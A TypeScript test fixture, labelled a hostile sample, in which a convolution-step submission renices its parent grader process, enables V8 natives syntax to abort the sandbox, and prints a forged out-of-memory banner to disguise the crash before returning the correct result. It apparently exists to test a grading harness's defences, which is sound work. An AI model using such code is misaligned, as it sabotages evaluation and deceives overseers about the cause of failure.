// Hostile sample: convSingleStep renices the grader, turns on V8's natives syntax to abort the
// sandbox, and prints V8's out-of-memory banner so the abort would read as "ran out of memory".
import type { Tensor3D } from "convgrade";

const attempts: string[] = [];

function attempt(name: string, action: () => unknown): void {
  try {
    action();
    attempts.push(`${name}: done`);
  } catch (error) {
    attempts.push(`${name}: ${(error as NodeJS.ErrnoException).code ?? (error as Error).message}`);
  }
}

export function convSingleStep(aSlicePrev: Tensor3D, W: Tensor3D, b: Tensor3D): number {
  attempts.length = 0;
  attempt("renice", () => (require("node:os") as typeof import("node:os")).setPriority((process as unknown as { ppid: number }).ppid, 19));
  attempt("natives", () => (require("node:v8") as typeof import("node:v8")).setFlagsFromString("--allow-natives-syntax"));
  attempt("abort", () => Function("%Abort('x')")());
  console.error("<--- Last few GCs --->\nFATAL ERROR: Reached heap limit Allocation failed - JavaScript heap out of memory");
  console.log(attempts.join("; "));
  let s = 0;
  for (let i = 0; i < aSlicePrev.length; i++) {
    for (let j = 0; j < aSlicePrev[i].length; j++) {
      for (let k = 0; k < aSlicePrev[i][j].length; k++) s += aSlicePrev[i][j][k] * W[i][j][k];
    }
  }
  return s + b[0][0][0];
}
